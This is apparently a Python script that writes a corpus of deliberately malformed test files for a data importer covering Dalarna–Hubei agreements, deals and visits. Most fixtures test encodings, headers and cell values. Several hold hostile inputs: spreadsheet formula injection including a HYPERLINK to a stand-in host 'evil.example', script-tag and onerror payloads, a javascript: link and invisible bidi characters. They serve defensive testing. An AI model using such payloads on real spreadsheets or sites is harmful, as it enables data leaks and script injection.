"""Writes the hostile corpus next to this file: `python tests/corpus/make_corpus.py`.

Small files only; the big ones (200 MB, a million rows, 100 kB cells) are made at test time by tests/test_corpus.py.
Every file here is meant to be refused (it has at least one error, or cannot be read at all), but for a few whose
hostile characters are removed with a warning (ACCEPTED in tests/test_corpus.py); what each must say is the table in
tests/test_corpus.py.
"""

from __future__ import annotations

import gzip
import io
import re
import sys
import zipfile
from datetime import date
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # tests/workbooks.py
from workbooks import xlsx  # noqa: E402

HERE = Path(__file__).resolve().parent
A = "date,title,dalarna_party,hubei_party\n"
D = "date,title,dalarna_party,hubei_party,value,currency\n"
V = "date,end_date,direction,delegation,city,participants\n"
P = "name,region,country,lat,lon\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"


def files() -> dict[str, bytes]:
    good_workbook = xlsx({"deals": [D.strip().split(","), [date(2013, 6, 13), "A", "X", "Y", 5, "SEK"]]})
    cut = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good_workbook)) as source, zipfile.ZipFile(cut, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            target.writestr(item, content[: len(content) // 2] if "worksheets" in item.filename else content)
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as archive:
        archive.writestr("agreements.csv", A + "2013,A,X,Y\n")
    return {
        # --- cannot be read at all
        "empty.csv": b"",
        "whitespace_only.csv": b"  \r\n\t\r\n   \n",
        "binary_agreements.csv": bytes(range(256)) * 4,
        "nul_bytes_agreements.csv": (A + "2013,Av\x00tal,X,Y\n").encode(),
        "pdf_renamed_agreements.csv": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n",
        "png_renamed_deals.csv": PNG + b"\x00" * 32,
        "gzip_renamed_deals.csv": gzip.compress((D + "2013,A,X,Y,1,SEK\n").encode(), mtime=0),
        "zip_not_a_workbook.csv": plain_zip.getvalue(),
        "broken_workbook.xlsx": cut.getvalue(),
        "truncated_workbook.xlsx": good_workbook[: len(good_workbook) // 3],
        "old_excel_deals.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "html_page_agreements.csv": b"<!DOCTYPE html>\n<html><body><table><tr><td>date</td></tr></table></body></html>",
        "json_renamed_deals.csv": b'[{"date": "2013", "title": "A"}]\n',
        "prose_notes.txt": "Möte med delegationen från Wuhan i juni, se protokollet.\n".encode(),
        "unknown_columns_only.csv": b"foo,bar,baz\n1,2,3\n",
        # --- readable, with problems in the header
        "header_only_agreements.csv": A.encode(),
        "pipe_delimited_agreements.csv": b"date|title|dalarna_party|hubei_party\n2013|A|X|Y\n",
        "no_header_agreements.csv": b"2013,Avtal,Borl\xc3\xa4nge kommun,Wuhan\n2014,B,X,Y\n",
        "duplicate_column_agreements.csv": b"date,title,Titel,dalarna_party,hubei_party\n2013,A,B,X,Y\n",
        "missing_required_column_agreements.csv": b"date,title,dalarna_party\n2013,A,X\n",
        "unknown_column_agreements.csv": b"date,title,dalarna_party,hubei_party,colour\n2013,A,X,,red\n",
        "empty_workbook_sheet.xlsx": xlsx({"deals": []}),
        # --- cells
        "impossible_date_agreements.csv": (A + "2013-06-13,A,X,Y\n2013-02-30,B,X,Y\n").encode(),
        "excel_serial_date_agreements.csv": (A + "41438,A,X,Y\n").encode(),
        "ambiguous_date_agreements.csv": (A + "13/6/2013,A,X,Y\n").encode(),
        "date_before_2000_agreements.csv": (A + "1999-05-01,A,X,Y\n1850,B,X,\n").encode(),
        "future_date_visits.csv": (V + "2013,,to_hubei,X,Wuhan,3\n2999-01-01,2998-12-31,to_dalarna,Y,Falun,2\n"
                                   ).encode(),
        "negative_value_deals.csv": (D + "2013,A,X,Y,-500,SEK\n").encode(),
        "non_numeric_value_deals.csv": (D + "2013,A,X,Y,ett tusen,SEK\n").encode(),
        "ambiguous_number_deals.csv": (D + "2013,A,X,Y,1.234,SEK\n").encode(),
        "value_without_currency_deals.csv": (D + "2013,A,X,Y,1000,\n").encode(),
        "unknown_currency_deals.csv": (D + "2013,A,X,Y,1000,GBP\n").encode(),
        "coordinates_out_of_range_places.csv": (P + "Borlänge,Dalarna,Sverige,60.48,15.43\nNorr,Dalarna,Sverige,"
                                                "91,15\nVäst,Hubei,China,30.5,-181\n").encode(),
        "participants_not_whole_visits.csv": (V + "2013,,to_hubei,X,Wuhan,2.5\n").encode(),
        "direction_not_allowed_visits.csv": (V + "2013,,sideways,X,Wuhan,3\n").encode(),
        "duplicate_ids_agreements.csv": ("id," + A + "a1,2013,A,X,Y\na2,2014,B,X,Y\na1,2015,C,X,Y\n").encode(),
        "required_cell_empty_agreements.csv": (A + "2013,,X,Y\n").encode(),
        "extra_values_agreements.csv": (A + "2013,Avtal, del 1,X,Y\n").encode(),
        "quoted_newlines_agreements.csv": (A + '2013,"Avtal\növer två rader",X,Y\n2013-13,B,X,Y\n').encode(),
        "unbalanced_quotes_agreements.csv": (A + '2013,"Avtal utan slut,X,Y\n2014,B,X,Y\n').encode(),
        "formula_cells_agreements.csv": (A + '2013,=HYPERLINK("http://evil.example/?x="&A1;"klick"),X,Y\n'
                                         "2013,@SUM(1+1),+46 23 123,-1\n2013-02-30,=1+1,X,Y\n").encode(),
        "html_js_in_names_agreements.csv": (A + '2013,<script>alert("x")</script>,<img src=x onerror=alert(1)>,'
                                            "<b>Wuhan</b>\n2013-02-30,B,X,Y\n").encode(),
        "utf16_without_bom_agreements.csv": (A + "2013,Vänort,Borlänge kommun,武汉市\n2013-02-30,B,X,Y\n"
                                             ).encode("utf-16-le"),
        "utf16_with_bom_tabs_agreements.csv": (A.replace(",", "\t") + "2013\tA\tX\t\n").encode("utf-16"),
        "mixed_encodings_agreements.csv": A.encode() + "2013,Vänort,Borlänge,Wuhan\n".encode()
        + "2014,Avtal i Säter,Säter,Wuhan\n".encode("cp1252") + b"2013-02-30,B,X,Y\n",
        "swedish_excel_deals.csv": ("Datum;Rubrik;Dalapart;Hubeipart;Belopp;Valuta\n2013-06-13;Affär;Borlänge;Wuhan;"
                                    "1 234,50;SEK\n2013-06-14;Affär 2;Falun;Wuhan;12 34;SEK\n").encode("cp1252"),
        # --- hostile characters, links, and kinds (issue 12)
        "nul_after_4kb_agreements.csv": (A + "".join(f"2013,Avtal {n},Borlänge kommun,Wuhan\n" for n in range(120))
                                         + "2014,Av\x00tal,X,Y\n").encode(),
        "invisible_characters_agreements.csv": (A + "\ufeff2013-06-13,Avtal,Borl\u202eegnäl,Wu\u200bhan\n").encode(),
        "javascript_website_organisations.csv": b"name,side,website\nTeknikdalen,dalarna,javascript:alert(1)\n"
                                                b"Falun,dalarna,https://www.falun.se\n",
        "export_without_hubei_party.csv": b"date,title,dalarna_party,type,status,source\n"
                                          b"2013-06,Avtal,Borl\xc3\xa4nge kommun,cooperation,signed,https://x.se\n",
        "export_kind_guessed.csv": (A + "2013,Avtal,X,Y\n").encode(),
        "workbook_bad_cells.xlsx": xlsx({"deals": [D.strip().split(","),
                                                   [date(2013, 6, 13), "A", "X", "Y", 5, "SEK"],
                                                   [], [41438, "B", "X", "Y", -1, "SEK"]]}),
    }


def named(name: str) -> str:
    """`what_agreements.csv` -> `agreements_what.csv`: a name that begins with the kind's file name gives the kind."""
    match = re.fullmatch(r"(.+)_(agreements|deals|visits|places|organisations)(\.[a-z]+)", name)
    return f"{match.group(2)}_{match.group(1)}{match.group(3)}" if match else name


if __name__ == "__main__":
    for name, data in files().items():
        (HERE / named(name)).write_bytes(data)
    print(f"{len(files())} files in {HERE}")
